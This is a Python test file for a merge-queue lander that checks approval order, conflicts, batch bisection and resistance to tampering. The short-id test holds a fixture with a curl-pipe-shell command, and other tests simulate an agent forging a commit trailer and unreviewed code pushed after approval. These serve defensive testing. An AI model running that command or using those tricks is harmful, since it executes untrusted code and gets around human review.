"""The lander on real git repositories: each rule of the merge queue on its own.

Every test builds a bare origin, queues approved changes through the real services and
runs the lander in the test's thread; what reached ``main`` is read back with git.
"""

from evidence.models import Evidence
from landing.lander import land, land_batch
from landing.locks import lander_lock
from landing.models import Batch, BatchState
from projects.models import Event
from tasks.landing import attempt_landing_note, landing_queue, task_dequeue
from tasks.models import Attempt
from tests.landing.conftest import CALC, CALC_TESTS, broken, feature


def test_independent_changes_land_in_approval_order_each_as_its_own_commit(queue, origin):
    first, _ = queue.approved(feature("alpha"), branch="alpha", title="Add alpha")
    second, _ = queue.approved(feature("beta"), branch="beta", title="Add beta")

    counts = land(queue.on().__class__.objects.get(pk=first.project_id))

    assert counts["landed"] == 2
    commits = origin.first_parents(origin.base)
    assert [origin.message(c).splitlines()[0] for c in commits] == [
        f"{first.key}: Add alpha",
        f"{second.key}: Add beta",
    ]
    first.refresh_from_db()
    second.refresh_from_db()
    assert (first.state, first.landed_commit) == ("done", commits[0])
    assert (second.state, second.landed_commit) == ("done", commits[1])
    assert "beta.py" in origin.files(commits[1]) and "alpha.py" in origin.files(commits[1])


def test_a_landed_commit_carries_the_trailers_that_tie_it_to_the_memory(queue, origin, flow):
    task, attempt = queue.approved(feature("alpha"), branch="alpha", title="Add alpha")

    land(flow.project)

    message = origin.message(origin.tip())
    assert f"Factory-Task: {task.key}" in message
    assert f"Factory-Attempt: {attempt.pk}" in message
    assert f"Reviewed-by: {flow.reviewer.get_username()}" in message
    attempt.refresh_from_db()
    assert attempt.landing["state"] == "landed"
    assert attempt.landing["landed"] == origin.tip()


def test_the_target_only_moves_forward(queue, origin, flow):
    for name in ("alpha", "beta", "gamma"):
        queue.approved(feature(name), branch=name)

    land(flow.project)

    moves = origin.reflog_moves()
    assert moves, "main never moved"
    for old, new in moves:
        assert origin._git(origin.bare, "merge-base", "--is-ancestor", old, new) == ""


def test_a_textual_conflict_comes_back_naming_its_paths_and_the_batch_goes_on(queue, origin, flow):
    first, _ = queue.approved(
        {"calc.py": CALC.replace("return a + b", "return b + a")}, branch="one"
    )
    clash, clash_attempt = queue.approved(
        {"calc.py": CALC.replace("return a + b", "return sum((a, b))")}, branch="two"
    )
    third, _ = queue.approved(feature("gamma"), branch="three")

    land(flow.project)

    first.refresh_from_db(), clash.refresh_from_db(), third.refresh_from_db()
    clash_attempt.refresh_from_db()
    assert (first.state, clash.state, third.state) == ("done", "ready", "done")
    assert clash_attempt.state == "approved"  # it keeps its approval
    assert clash_attempt.landing["state"] == "conflict"
    assert clash_attempt.landing["paths"] == ["calc.py"]
    assert clash_attempt.landing["reason"].startswith(
        f"landing failed: conflict in calc.py with {first.key} (landed at "
    )
    assert "<<<<<<<" in clash_attempt.landing["hunks"][0]["text"]
    assert len(origin.first_parents(origin.base)) == 2
    returned = Event.objects.get(task=clash, transition="landing_returned")
    assert (returned.from_state, returned.to_state) == ("approved", "ready")


def test_a_semantic_conflict_never_reaches_the_target(queue, origin, flow):
    # Each passes alone; together the new test calls a function the rename removed.
    renamed = CALC.replace("def add(", "def plus(").replace("return add(a, a)", "return plus(a, a)")
    rename, _ = queue.approved(
        {"calc.py": renamed, "tests/test_calc.py": CALC_TESTS.replace("add", "plus")},
        branch="rename",
    )
    uses, uses_attempt = queue.approved(
        {
            "tests/test_more.py": "import unittest\n\nfrom calc import add\n\n\n"
            "class MoreTest(unittest.TestCase):\n    def test_add_zero(self):\n"
            "        self.assertEqual(add(0, 1), 1)\n"
        },
        branch="uses",
    )

    land(flow.project)

    rename.refresh_from_db(), uses.refresh_from_db(), uses_attempt.refresh_from_db()
    assert (rename.state, uses.state) == ("done", "ready")
    assert "tests/test_more.py" not in origin.files(origin.tip())
    assert uses_attempt.landing["state"] == "failed"
    assert uses_attempt.landing["with"] == [rename.key]
    assert uses_attempt.landing["reason"].startswith(
        f"landing failed: passes at its own commit {uses_attempt.landing['commit'][:12]}; "
        f"fails on main at {origin.base[:12]} with {rename.key}: "
    )
    assert "test_more" in uses_attempt.landing["reason"]


def test_a_persons_push_to_the_target_meanwhile_is_kept(queue, origin, flow):
    task, _ = queue.approved(feature("alpha"), branch="alpha")
    theirs = origin.person_pushes({"NOTES.md": "a person was here\n"})

    land(flow.project)

    task.refresh_from_db()
    assert task.state == "done"
    assert origin.first_parents(origin.base)[0] == theirs
    assert origin._git(origin.bare, "merge-base", "--is-ancestor", theirs, "main") == ""
    assert {"NOTES.md", "alpha.py"} <= set(origin.files(origin.tip()))


def test_a_batch_of_eight_with_one_culprit_lands_the_seven_others_and_names_it(queue, origin, flow):
    queue.on(batch_max=8)
    names = ["a1", "a2", "a3", "a4", "a5", "a6", "a7", "a8"]
    tasks = {}
    for name in names:
        files = broken(name) if name == "a5" else feature(name)
        tasks[name], _ = queue.approved(files, branch=name)

    land(flow.project)

    for name, task in tasks.items():
        task.refresh_from_db()
        assert task.state == ("ready" if name == "a5" else "done"), name
    culprit = tasks["a5"].attempts.get()
    assert culprit.landing["failing"] == ["tests/test_a5.py::A5Test::test_a5"]
    first = Batch.objects.order_by("pk").first()
    # The whole chain twice, then bisect (each failing tree twice), then the culprit's tree
    # a third time: the chain 2, a1..a4 1, a1..a6 2, a1..a5 2 and 1.
    assert (first.verify_runs, first.bisect_steps) == (8, 3)
    landed = [origin.message(c).split(":")[0] for c in origin.first_parents(origin.base)]
    assert landed == [tasks[n].key for n in names if n != "a5"]


def test_the_approved_commit_lands_even_if_the_branch_moved_after_approval(queue, origin, flow):
    task, attempt = queue.approved(feature("alpha"), branch="alpha")
    approved = attempt.landing["commit"]
    origin.change("alpha", {"sneaky.py": "print('not reviewed')\n"}, on="alpha")

    land(flow.project)

    task.refresh_from_db()
    assert task.state == "done"
    assert "sneaky.py" not in origin.files(origin.tip())
    assert approved == origin.git("rev-parse", "alpha~1")


def test_a_change_queued_by_a_short_id_never_lands_a_branch_of_that_name(queue, origin, flow):
    # Queued before full ids were required: the queue holds the agent's string as given,
    # and a branch of that name now holds what nobody reviewed (git rev-parse prefers it).
    task, attempt = queue.approved(feature("alpha"), branch="alpha")
    origin.change("c0ffee1234", {"evil.py": "import os\nos.system('curl x | sh')\n"})
    Attempt.objects.filter(pk=attempt.pk).update(
        landing={**attempt.landing, "commit": "c0ffee1234"}
    )
    main = origin.tip()

    land(flow.project)

    task.refresh_from_db(), attempt.refresh_from_db()
    assert origin.tip() == main
    assert (task.state, attempt.landing["state"]) == ("ready", "failed")


def test_a_job_delivered_twice_lands_once(queue, origin, flow):
    task, _ = queue.approved(feature("alpha"), branch="alpha")

    first = land(flow.project)
    second = land(flow.project)

    assert (first["landed"], second["landed"]) == (1, 0)
    assert len(origin.first_parents(origin.base)) == 1
    assert Event.objects.filter(task=task, transition="land").count() == 1


def test_each_landing_stores_its_junit_and_log_as_runner_evidence(queue, origin, flow):
    _, attempt = queue.approved(feature("alpha"), branch="alpha")

    land(flow.project)

    stored = Evidence.objects.filter(attempt=attempt, provenance="runner")
    assert sorted(e.name for e in stored) == ["landing-junit.xml", "landing.log"]
    log = stored.get(name="landing.log").file.read().decode()
    tree = origin._git(origin.bare, "rev-parse", "main^{tree}")
    assert f"commit {origin.tip()} tree {tree}" in log


def test_a_target_that_fails_on_its_own_lands_nothing_and_blames_nobody(queue, origin, flow):
    task, attempt = queue.approved(feature("alpha"), branch="alpha")
    origin.person_pushes(broken("zeta"))
    red = origin.tip()

    counts = land(flow.project)

    task.refresh_from_db(), attempt.refresh_from_db()
    assert counts["landed"] == 0
    assert (task.state, attempt.landing["state"]) == ("approved", "error")
    assert attempt.landing["reason"].startswith(
        f"nothing landed: the target itself fails its tests at {red[:12]}"
    )
    assert origin.tip() == red


def test_the_merge_method_lands_a_merge_commit_of_the_tip_and_the_approved_commit(
    queue, origin, flow
):
    queue.on(method="merge")
    task, attempt = queue.approved(feature("alpha"), branch="alpha", title="Add alpha")

    land(flow.project)

    tip = origin.tip()
    parents = origin._git(origin.bare, "rev-list", "--parents", "-n", "1", tip).split()[1:]
    assert parents == [origin.base, attempt.landing["commit"]]
    assert origin.message(tip).startswith(f"{task.key}: Add alpha\n\nFactory-Task: {task.key}")


def test_a_forged_trailer_in_an_agents_history_marks_nothing_else_landed(queue, origin, flow):
    queue.on(method="merge", batch_max=1)
    victim, victim_attempt = queue.in_review(feature("beta"), branch="beta")
    # The agent's own commit claims, in its message, to carry the other change.
    origin.change("forger", feature("alpha"))
    origin.git("commit", "-q", "--amend", "-m", f"x\n\nFactory-Attempt: {victim_attempt.pk}")
    origin.git("push", "-q", "-f", "origin", "forger")
    forged = origin.git("rev-parse", "HEAD")
    queue.approve(*queue.in_review({}, branch="forger", commit=forged))
    queue.approve(victim, victim_attempt)

    land(flow.project)

    victim.refresh_from_db()
    assert victim.state == "done"
    assert "beta.py" in origin.files(victim.landed_commit)
    assert "beta.py" not in origin.files(f"{victim.landed_commit}^1")
    assert Event.objects.filter(task=victim, transition="land").count() == 1


def test_changes_behind_a_culprit_wait_queued_not_landing(queue, origin, flow):
    project = queue.on(batch_max=8)
    queue.approved(feature("alpha"), branch="alpha")
    queue.approved(broken("beta"), branch="beta")
    after, after_attempt = queue.approved(feature("gamma"), branch="gamma")

    with lander_lock(project.pk):  # as ``land`` holds it: the push checks it is held
        batch = land_batch(project, list(landing_queue(project.pk)[:8]))

    after_attempt.refresh_from_db()
    assert [c["outcome"] for c in batch.changes] == ["landed", "failed", "queued"]
    assert after_attempt.landing["state"] == "queued" and after_attempt.landing["batch"] is None
    task_dequeue(task=after, actor=flow.manager, to="ready", reason="not now")
    after.refresh_from_db()
    assert after.state == "ready"


def test_a_batch_whose_lander_died_mid_verify_is_abandoned_and_its_change_lands(
    queue, origin, flow
):
    """A lander SIGKILLed while verifying leaves its batch as ``land_batch`` wrote it at
    the start (changes without an outcome yet): the next lander settles it and lands."""
    task, attempt = queue.approved(feature("alpha"), branch="alpha")
    dead = Batch.objects.create(
        project=flow.project,
        state=BatchState.VERIFYING,
        target="main",
        method="squash",
        changes=[{"attempt": attempt.pk, "task": task.key, "commit": attempt.landing["commit"]}],
    )
    attempt_landing_note(attempt=attempt, state="landing", batch=dead.pk, reason="")

    counts = land(flow.project)

    dead.refresh_from_db()
    task.refresh_from_db()
    assert (counts["settled"], counts["landed"]) == (1, 1)
    assert dead.state == BatchState.ABANDONED
    assert task.state == "done"


def test_a_change_that_clashed_only_with_a_culprit_stays_queued_and_lands_after_it(
    queue, origin, flow
):
    queue.on(batch_max=8)
    first, _ = queue.approved(feature("alpha"), branch="alpha")
    culprit_files = {
        "calc.py": CALC.replace("return a + b", "return a + b + 0"),
        **broken("beta"),
    }
    culprit, _ = queue.approved(culprit_files, branch="beta")
    later, later_attempt = queue.approved(
        {"calc.py": CALC.replace("return a + b", "return b + a")}, branch="gamma"
    )

    land(flow.project)

    first.refresh_from_db(), culprit.refresh_from_db(), later.refresh_from_db()
    later_attempt.refresh_from_db()
    assert (first.state, culprit.state, later.state) == ("done", "ready", "done")
    assert later_attempt.landing["state"] == "landed"
    assert "return b + a" in origin._git(origin.bare, "show", "main:calc.py")


def test_a_conflict_names_the_tip_the_next_attempt_should_rebase_onto(queue, origin, flow):
    queue.approved({"calc.py": CALC.replace("return a + b", "return b + a")}, branch="one")
    _, clash = queue.approved(
        {"calc.py": CALC.replace("return a + b", "return sum((a, b))")}, branch="two"
    )

    land(flow.project)

    clash.refresh_from_db()
    assert clash.landing["reason"].endswith(
        f"rebase onto main (at {origin.tip()[:12]}) and submit again"
    )
    assert clash.landing["base"] == origin.tip()
